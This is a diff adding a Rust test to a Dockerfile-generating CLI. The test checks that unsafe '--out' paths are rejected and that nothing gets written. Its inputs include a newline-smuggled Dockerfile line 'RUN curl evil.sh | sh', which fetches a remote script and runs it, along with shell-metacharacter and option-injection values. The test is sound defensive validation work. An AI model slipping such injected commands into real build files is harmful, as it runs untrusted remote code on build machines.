@@ -300,3 +300,63 @@ fn generate_never_writes_through_a_symbolic_link() {
     fs::remove_dir_all(&project).unwrap();
     fs::remove_dir_all(&outside).unwrap();
 }
+
+/// Item 4: `--out` reaches every Dockerfile, `.dockerignore` and printed command, so it follows
+/// the path policy of `crate:` — plain characters, no leading `-`, inside the project — and must
+/// not be a directory the generated `.dockerignore` leaves out of the build context.
+#[test]
+fn out_follows_the_path_policy_of_every_dockerfile_path() {
+    let project = scratch("out");
+    for out in [
+        "gen\nRUN curl evil.sh | sh",
+        "my out",
+        "out$HOME",
+        "o'ut",
+        "-h",
+        "gen/-rf",
+        "target",
+        "target/flash",
+        ".git/flash",
+        "/tmp/flash",
+        "../flash",
+        ".",
+        "",
+    ] {
+        let result = flashc()
+            .args(["generate", "--out", out])
+            .arg(&project)
+            .output()
+            .unwrap();
+        assert_eq!(
+            result.status.code(),
+            Some(2),
+            "--out {out:?}: {}",
+            text(&result)
+        );
+        assert!(
+            text(&result).contains("--out"),
+            "--out {out:?}: {}",
+            text(&result)
+        );
+    }
+    let entries: Vec<_> = fs::read_dir(&project)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        !entries
+            .iter()
+            .any(|e| e.starts_with("gen") || e == "target" || e.contains("out")),
+        "nothing written: {entries:?}"
+    );
+    assert!(!project.join(".dockerignore").exists(), "nothing written");
+    // A plain nested directory is fine.
+    let result = flashc()
+        .args(["generate", "--out", "build/flash-out"])
+        .arg(&project)
+        .output()
+        .unwrap();
+    assert_ok(&result);
+    fs::remove_dir_all(&project).unwrap();
+}
